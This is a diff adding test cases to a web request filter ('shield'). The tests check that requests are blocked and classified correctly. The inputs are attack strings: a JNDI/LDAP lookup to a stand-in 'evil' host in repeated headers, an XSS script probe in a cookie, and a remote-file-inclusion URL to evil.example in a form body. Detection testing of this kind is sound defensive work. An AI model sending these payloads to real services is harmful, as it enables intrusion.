@@ -172,6 +172,60 @@ describe('shield: what it reads', () => {
     expect(await form.text()).toBe('a=1&b=2')
   })
 
+  it.each([
+    [
+      'a repeated header, its copies joined',
+      'x-note',
+      'hello',
+      `https://x/${JNDI}ldap://evil/a}`,
+      'java',
+      'header:x-note',
+    ],
+    [
+      'every copy of Set-Cookie',
+      'set-cookie',
+      'a=1',
+      `https://x/${JNDI}ldap://evil/a}`,
+      'java',
+      'header:set-cookie',
+    ],
+    [
+      'the cookies of every Cookie header',
+      'cookie',
+      'theme=dark',
+      'q=%3Cscript%3Ealert(1)',
+      'xss',
+      'cookie:q',
+    ],
+  ])('reads %s', async (_, name, first, second, category, location) => {
+    const { app, decision } = appWith()
+    const headers = new Headers()
+    headers.append(name, first)
+    headers.append(name, second)
+    const res = await app.request('/', { headers })
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ category, location })
+  })
+
+  it('reads the cookies after the other headers', async () => {
+    const { app, decision } = appWith()
+    const res = await app.request('/', {
+      headers: { cookie: 'q=%3Cscript%3Ealert(1)', 'x-note': `https://x/${JNDI}ldap://evil/a}` },
+    })
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ category: 'java', location: 'header:x-note' })
+  })
+
+  it('takes the declared body type from the Content-Type header, whatever its case', async () => {
+    const { app, decision } = appWith()
+    const res = await app.request(
+      '/p',
+      post('include=http%3A%2F%2Fevil.example%2Fx.txt', 'Application/X-WWW-Form-Urlencoded'),
+    )
+    expect(res.status).toBe(403)
+    expect(decision()).toMatchObject({ category: 'rfi', location: 'body/include' })
+  })
+
   it('does not read Authorization, API keys or signatures', async () => {
     const { app } = appWith()
     const res = await app.request('/', {
